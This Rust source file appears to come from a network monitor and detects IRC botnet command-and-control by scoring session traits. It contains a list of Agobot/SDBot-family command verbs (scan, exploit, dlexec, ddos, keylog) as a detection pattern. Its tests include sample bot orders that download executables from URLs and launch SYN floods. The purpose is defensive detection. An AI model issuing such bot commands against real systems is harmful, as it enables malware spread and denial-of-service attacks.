//! IRC command-and-control: an IRC session is scored on several bot traits
//! with documented weights; it becomes a `C2Channel` notice when the score
//! reaches `irc_c2_min_score` and at least one *strong* trait is present
//! (bot commands from the controller side, automated status replies, or IRC
//! on a non-IRC port). A channel's *name* is never a trait.

use crate::Ctx;
use crate::util::{FifoMap, ep};
use std::collections::VecDeque;
use std::net::IpAddr;
use stormwatch_model::{
    AppContext, AppProto, C2Info, Direction, FlowId, IrcEvent, Notice, NoticeKind, Stage, Timestamp,
};

const BOT_COMMAND: u8 = 1;
const BOT_REPLY: u8 = 2;
const NON_IRC_PORT: u8 = 4;
const RANDOM_NICK: u8 = 8;
const KEYED_CHANNEL: u8 = 16;
const SILENT: u8 = 32;
const STRONG: u8 = BOT_COMMAND | BOT_REPLY | NON_IRC_PORT;

const TRAIT_NAMES: [(u8, &str); 6] = [
    (BOT_COMMAND, "bot_command"),
    (BOT_REPLY, "bot_reply"),
    (NON_IRC_PORT, "irc_on_non_irc_port"),
    (RANDOM_NICK, "random_nick"),
    (KEYED_CHANNEL, "keyed_channel"),
    (SILENT, "silent_client"),
];

/// Kinds of bot orders (bit flags), for follow-up records.
const CAT_SCAN: u8 = 1;
const CAT_DOWNLOAD: u8 = 2;
const CAT_UPDATE: u8 = 4;
const CAT_FLOOD: u8 = 8;
const CAT_CONTROL: u8 = 16;

const CATEGORY_NAMES: [(u8, &str); 5] = [
    (CAT_SCAN, "scan"),
    (CAT_DOWNLOAD, "download"),
    (CAT_UPDATE, "update"),
    (CAT_FLOOD, "flood"),
    (CAT_CONTROL, "control"),
];

/// Command verbs of the Agobot/Phatbot/SDBot/Rbot/GTbot families and their
/// descendants, by kind. Matched only as the first word after a command
/// prefix character, in text sent by the controller side.
const VERBS: &[(&str, u8)] = &[
    ("advscan", CAT_SCAN),
    ("asc", CAT_SCAN),
    ("ascan", CAT_SCAN),
    ("scan", CAT_SCAN),
    ("scanall", CAT_SCAN),
    ("scanstart", CAT_SCAN),
    ("scanstop", CAT_SCAN),
    ("ipscan", CAT_SCAN),
    ("ntscan", CAT_SCAN),
    ("netscan", CAT_SCAN),
    ("wscan", CAT_SCAN),
    ("lscan", CAT_SCAN),
    ("sscan", CAT_SCAN),
    ("exploit", CAT_SCAN),
    ("spread", CAT_SCAN),
    ("download", CAT_DOWNLOAD),
    ("dl", CAT_DOWNLOAD),
    ("dlexec", CAT_DOWNLOAD),
    ("downloadexec", CAT_DOWNLOAD),
    ("wget", CAT_DOWNLOAD),
    ("visit", CAT_DOWNLOAD),
    ("update", CAT_UPDATE),
    ("upd", CAT_UPDATE),
    ("updatehttp", CAT_UPDATE),
    ("ddos", CAT_FLOOD),
    ("syn", CAT_FLOOD),
    ("synflood", CAT_FLOOD),
    ("supersyn", CAT_FLOOD),
    ("udp", CAT_FLOOD),
    ("udpflood", CAT_FLOOD),
    ("tcpflood", CAT_FLOOD),
    ("httpflood", CAT_FLOOD),
    ("icmpflood", CAT_FLOOD),
    ("pingflood", CAT_FLOOD),
    ("ackflood", CAT_FLOOD),
    ("flood", CAT_FLOOD),
    ("sysinfo", CAT_CONTROL),
    ("netinfo", CAT_CONTROL),
    ("login", CAT_CONTROL),
    ("logout", CAT_CONTROL),
    ("remove", CAT_CONTROL),
    ("uninstall", CAT_CONTROL),
    ("execute", CAT_CONTROL),
    ("exec", CAT_CONTROL),
    ("cmd", CAT_CONTROL),
    ("socks4", CAT_CONTROL),
    ("socks5", CAT_CONTROL),
    ("keylog", CAT_CONTROL),
    ("cdkeys", CAT_CONTROL),
    ("killthread", CAT_CONTROL),
    ("reconnect", CAT_CONTROL),
];

/// Tags bots put in front of their status lines (`[DOWNLOAD]: Downloading URL…`).
const REPLY_TAGS: &[&str] = &[
    "MAIN", "SCAN", "DOWNLOAD", "UPDATE", "DDOS", "SYN", "UDP", "TCP", "FLOOD", "SYSINFO",
    "NETINFO", "EXEC", "SHELL", "SOCKS4", "KEYLOG", "HTTP", "FTP", "TFTP", "LSASS", "DCOM",
    "THREADS", "PROC", "CDKEYS", "CAPTURE",
];

/// IRC's own server ports (IANA irc/ircs/ircu and common network ports).
pub(crate) fn is_irc_port(p: u16) -> bool {
    matches!(p, 194 | 529 | 994 | 6660..=6669 | 6679 | 6697 | 7000 | 7070)
}

/// A bot order in controller text: `(kind, command as written)`.
pub(crate) fn bot_command(text: &str) -> Option<(u8, String)> {
    let t = text.trim();
    let mut chars = t.chars();
    let first = chars.next()?;
    if !".!~@$%&?^`+*=-".contains(first) {
        return None;
    }
    let rest = chars.as_str();
    let word = rest.split_whitespace().next()?;
    let verb = word.to_ascii_lowercase();
    let family = verb.split('.').next().unwrap_or("");
    let cat = VERBS
        .iter()
        .find(|(v, _)| *v == verb || *v == family)
        .map(|(_, c)| *c)?;
    let cmd: String = t.chars().take(200).collect();
    Some((cat, cmd))
}

/// An automated status line sent by a bot into its channel.
pub(crate) fn bot_reply(text: &str) -> bool {
    let t = text.trim_start();
    if let Some(inner) = t.strip_prefix('[')
        && let Some(end) = inner.find(']')
        && (2..=16).contains(&end)
    {
        let tag = &inner[..end];
        let after = &inner[end + 1..];
        let shaped = tag
            .chars()
            .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || " _-.".contains(c))
            && tag.chars().any(|c| c.is_ascii_uppercase());
        if shaped && (after.starts_with(':') || REPLY_TAGS.contains(&tag)) {
            return true;
        }
    }
    let l = t.to_ascii_lowercase();
    l.starts_with("downloading url:") || l.starts_with("random port scan started")
}

/// A machine-made nick: ≥ 5 digits, mostly digits, or a country tag
/// (`[USA]|1234567`, `USA|1234`, `damn-0262937047`, `xX123`).
pub(crate) fn random_nick(nick: &str) -> bool {
    let len = nick.chars().count();
    let digits = nick.chars().filter(char::is_ascii_digit).count();
    if digits >= 5 || (digits >= 3 && digits * 2 > len) {
        return true;
    }
    // Country tag: 2–3 upper-case letters, optionally bracketed, then `|` and digits.
    let s = nick.strip_prefix('[').unwrap_or(nick);
    let tag: String = s.chars().take_while(char::is_ascii_uppercase).collect();
    if (2..=3).contains(&tag.len()) {
        let after = &s[tag.len()..];
        let after = after.strip_prefix(']').unwrap_or(after);
        if let Some(num) = after.strip_prefix('|') {
            return num.chars().take_while(char::is_ascii_digit).count() >= 2;
        }
    }
    false
}

struct Session {
    client: IpAddr,
    server: IpAddr,
    port: u16,
    flow: FlowId,
    talked: bool,
    nick: Option<String>,
    channels: Vec<String>,
    /// Hash of the channel list `channels` was built from (rebuilt only when
    /// the list changes, not on every message).
    channels_of: u64,
    traits: u8,
    commands: Vec<String>,
    categories: u8,
    reported: Option<u8>,
}

/// IRC sessions being scored.
pub(crate) struct Irc {
    sessions: FifoMap<FlowId, Session>,
    silent_q: VecDeque<(Timestamp, FlowId)>,
    /// Bot commands seen.
    pub commands: u64,
    /// Sessions called C&C.
    pub c2: u64,
}

impl Irc {
    pub(crate) fn new(max: usize) -> Irc {
        Irc {
            sessions: FifoMap::new(max),
            silent_q: VecDeque::new(),
            commands: 0,
            c2: 0,
        }
    }

    pub(crate) fn evicted(&self) -> u64 {
        self.sessions.evicted
    }

    pub(crate) fn len(&self) -> usize {
        self.sessions.len()
    }

    pub(crate) fn heap_bytes(&self) -> usize {
        self.sessions
            .capacity_bytes(std::mem::size_of::<(FlowId, Session)>() + 256)
            + self.silent_q.capacity() * 16
    }

    fn session<'a>(
        sessions: &'a mut FifoMap<FlowId, Session>,
        silent_q: &mut VecDeque<(Timestamp, FlowId)>,
        app: &AppContext,
        ctx: &Ctx<'_>,
    ) -> &'a mut Session {
        let fresh = !sessions.contains(&app.flow_id);
        if fresh {
            let secs = i64::try_from(ctx.cfg.irc_silent_secs).unwrap_or(i64::MAX / 2_000_000_000);
            silent_q.push_back((app.ts.add_secs(secs), app.flow_id));
            if silent_q.len() > ctx.cfg.irc_sessions_max.saturating_mul(4) {
                silent_q.pop_front();
            }
        }
        let (s, _) = sessions.entry_or_insert_with(app.flow_id, || Session {
            client: app.key.src,
            server: app.key.dst,
            port: app.key.dst_port,
            flow: app.flow_id,
            talked: false,
            nick: None,
            channels: Vec::new(),
            channels_of: 0,
            traits: if is_irc_port(app.key.dst_port) {
                0
            } else {
                NON_IRC_PORT
            },
            commands: Vec::new(),
            categories: 0,
            reported: None,
        });
        s
    }

    /// IRC identified on a flow (masquerade: on a port registered to another protocol).
    pub(crate) fn on_detected(&mut self, app: &AppContext, masquerade: bool, ctx: &mut Ctx<'_>) {
        let s = Self::session(&mut self.sessions, &mut self.silent_q, app, ctx);
        if masquerade {
            s.traits |= NON_IRC_PORT;
        }
        self.c2 += u64::from(evaluate(s, app.ts, ctx));
    }

    /// Commands [`Irc::on_message`] reads beyond the session's nick and
    /// channels (bot orders to the client, the client talking).
    const READ_COMMANDS: [&'static [u8]; 4] = [b"332", b"TOPIC", b"PRIVMSG", b"NOTICE"];

    /// True when [`Irc::on_message`] would change nothing and emit nothing for
    /// a message without CTCP content: its session exists, `command` is none
    /// the detector reads, and the session's nick and channels are those it
    /// already holds. (Every change to a session is followed by its
    /// evaluation, so evaluating it again unchanged emits nothing.)
    pub(crate) fn message_is_noop(
        &self,
        flow: FlowId,
        command: &[u8],
        nick: Option<&str>,
        channels: &[(String, Option<String>)],
    ) -> bool {
        if Self::READ_COMMANDS
            .iter()
            .any(|c| command.eq_ignore_ascii_case(c))
        {
            return false;
        }
        let Some(s) = self.sessions.get(&flow) else {
            return false;
        };
        if nick.is_some_and(|n| s.nick.as_deref() != Some(n)) {
            return false;
        }
        channels.is_empty() || crate::util::hash64(channels) == s.channels_of
    }

    /// One IRC message.
    pub(crate) fn on_message(&mut self, app: &AppContext, ev: &IrcEvent, ctx: &mut Ctx<'_>) {
        let s = Self::session(&mut self.sessions, &mut self.silent_q, app, ctx);
        if let Some(n) = &ev.nick
            && s.nick.as_deref() != Some(n.as_str())
        {
            if random_nick(n) {
                s.traits |= RANDOM_NICK;
            }
            s.nick = Some(n.chars().take(64).collect());
        }
        let channels_of = if ev.channels.is_empty() {
            0
        } else {
            crate::util::hash64(&ev.channels)
        };
        if !ev.channels.is_empty() && channels_of != s.channels_of {
            s.channels_of = channels_of;
            s.channels = ev
                .channels
                .iter()
                .take(8)
                .map(|(c, k)| match k {
                    Some(k) if !k.is_empty() => format!("{c} (key {k})"),
                    _ => c.clone(),
                })
                .collect();
            if ev
                .channels
                .iter()
                .any(|(_, k)| k.as_ref().is_some_and(|k| !k.is_empty()))
            {
                s.traits |= KEYED_CHANNEL;
            }
        }
        // No allocation per message: commands compared case-insensitively.
        let cmd = ev.msg.command.as_str();
        let is = |names: &[&str]| names.iter().any(|n| cmd.eq_ignore_ascii_case(n));
        let text = ev.msg.params.last().map(String::as_str).unwrap_or("");
        match app.dir {
            Direction::ToClient => {
                if is(&["332", "TOPIC", "PRIVMSG", "NOTICE"])
                    && let Some((cat, c)) = bot_command(text)
                {
                    self.commands += 1;
                    s.traits |= BOT_COMMAND;
                    s.categories |= cat;
                    if s.commands.len() < 8 && !s.commands.contains(&c) {
                        s.commands.push(c);
                    }
                }
            }
            Direction::ToServer => {
                if is(&["PRIVMSG", "NOTICE"]) {
                    s.talked = true;
                    if ev.ctcp.is_none() && bot_reply(text) {
                        s.traits |= BOT_REPLY;
                    }
                }
            }
        }
        self.c2 += u64::from(evaluate(s, app.ts, ctx));
    }

    /// The earliest time [`Irc::advance`] has work.
    #[inline]
    pub(crate) fn next_due(&self) -> Timestamp {
        self.silent_q
            .front()
            .map_or(Timestamp(i64::MAX), |&(d, _)| d)
    }

    /// Time moved: sessions connected `irc_silent_secs` without talking gain
    /// the `silent_client` trait.
    pub(crate) fn advance(&mut self, now: Timestamp, ctx: &mut Ctx<'_>) {
        while let Some(&(deadline, flow)) = self.silent_q.front() {
            if deadline > now {
                break;
            }
            self.silent_q.pop_front();
            if let Some(s) = self.sessions.get_mut(&flow)
                && !s.talked
            {
                s.traits |= SILENT;
                self.c2 += u64::from(evaluate(s, deadline, ctx));
            }
        }
    }

    /// The flow ended: forget its session.
    pub(crate) fn on_flow_end(&mut self, flow: FlowId) {
        self.sessions.remove(&flow);
    }
}

/// Emits the C&C record when the session qualifies, and a follow-up record per
/// new kind of bot order after it. Returns true when a first record was emitted.
fn evaluate(s: &mut Session, ts: Timestamp, ctx: &mut Ctx<'_>) -> bool {
    let cfg = ctx.cfg;
    let weights = [
        (BOT_COMMAND, cfg.irc_weight_bot_command),
        (BOT_REPLY, cfg.irc_weight_bot_reply),
        (NON_IRC_PORT, cfg.irc_weight_non_irc_port),
        (RANDOM_NICK, cfg.irc_weight_random_nick),
        (KEYED_CHANNEL, cfg.irc_weight_keyed_channel),
        (SILENT, cfg.irc_weight_silent_client),
    ];
    let score: u32 = weights
        .iter()
        .filter(|(b, _)| s.traits & b != 0)
        .map(|(_, w)| *w)
        .sum();
    let base = || format!("c2:irc:{}->{}", s.client, ep(s.server, s.port));
    match s.reported {
        None => {
            if score < cfg.irc_c2_min_score || s.traits & STRONG == 0 {
                return false;
            }
            let id = base();
            s.reported = Some(s.categories);
            if !ctx.sup.first(&id) {
                return false;
            }
            push(s, ts, id, score, None, ctx);
            true
        }
        Some(done) => {
            let new = s.categories & !done;
            if new == 0 {
                return false;
            }
            let base = base();
            s.reported = Some(done | s.categories);
            for (bit, name) in CATEGORY_NAMES {
                if new & bit != 0 {
                    let id = format!("{base}:{name}");
                    if ctx.sup.first(&id) {
                        push(s, ts, id, score, Some(name), ctx);
                    }
                }
            }
            false
        }
    }
}

fn push(
    s: &Session,
    ts: Timestamp,
    identifier: String,
    score: u32,
    order: Option<&str>,
    ctx: &mut Ctx<'_>,
) {
    let traits: Vec<String> = TRAIT_NAMES
        .iter()
        .filter(|(b, _)| s.traits & b != 0)
        .map(|(_, n)| (*n).to_string())
        .collect();
    let mut msg = match order {
        None => format!(
            "IRC command-and-control channel {} -> {}",
            s.client,
            ep(s.server, s.port)
        ),
        Some(o) => format!(
            "IRC controller {} orders {} a {o}",
            ep(s.server, s.port),
            s.client
        ),
    };
    if let Some(n) = &s.nick {
        msg.push_str(&format!(", nick {n}"));
    }
    if !s.channels.is_empty() {
        msg.push_str(&format!(", {}", s.channels.join(" ")));
    }
    msg.push_str(&format!(": {} (score {score})", traits.join(", ")));
    if let Some(c) = s.commands.first() {
        msg.push_str(&format!("; command {c}"));
    }
    ctx.out.push(Notice {
        ts,
        identifier,
        host: s.client,
        peer: Some(s.server),
        flow_id: Some(s.flow),
        stage: Some(Stage::E4C2),
        msg,
        kind: NoticeKind::C2Channel(C2Info {
            server: s.server,
            port: s.port,
            proto: AppProto::Irc,
            nick: s.nick.clone(),
            channels: s.channels.clone(),
            traits,
            commands: s.commands.clone(),
            beacon: None,
        }),
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nicks() {
        for n in [
            "damn-0262937047",
            "[USA]|1234567",
            "USA|1234",
            "xX123",
            "[DEU]|83",
            "bot83712",
        ] {
            assert!(random_nick(n), "{n}");
        }
        for n in [
            "brotest", "tim", "jpalanco", "mike1986", "bob99", "n0b0dy", "Guest", "DE|bob",
        ] {
            assert!(!random_nick(n), "{n}");
        }
    }

    #[test]
    fn commands() {
        assert_eq!(
            bot_command(".advscan dcom135 200 3 0 -r -s").map(|c| c.0),
            Some(CAT_SCAN)
        );
        assert_eq!(
            bot_command(".download http://www.wanees.net/bbnz.exe bbnz.exe 1").map(|c| c.0),
            Some(CAT_DOWNLOAD)
        );
        assert_eq!(
            bot_command("!ddos.syn 1.2.3.4 80 60").map(|c| c.0),
            Some(CAT_FLOOD)
        );
        assert_eq!(
            bot_command(".update http://x/y.exe").map(|c| c.0),
            Some(CAT_UPDATE)
        );
        // Human chat and channel-helper bots.
        for t in [
            "hello there",
            "!seen bob",
            "!help",
            "scan the docs please",
            "download it from the site",
            "Welcome to #botnetchannel",
        ] {
            assert!(bot_command(t).is_none(), "{t}");
        }
    }

    #[test]
    fn replies() {
        assert!(bot_reply(
            "[DOWNLOAD]: Downloading URL: http://x/y.exe to: y.exe."
        ));
        assert!(bot_reply(
            "[SCAN]: Random Port Scan started on 10.0.x.x:445"
        ));
        assert!(bot_reply("[MAIN] uptime 3d"));
        assert!(!bot_reply("[AFK] brb"));
        assert!(!bot_reply("[url] look at this"));
        assert!(!bot_reply("test"));
    }

    #[test]
    fn ports() {
        assert!(is_irc_port(6667));
        assert!(is_irc_port(6697));
        assert!(!is_irc_port(443));
        assert!(!is_irc_port(80));
    }
}
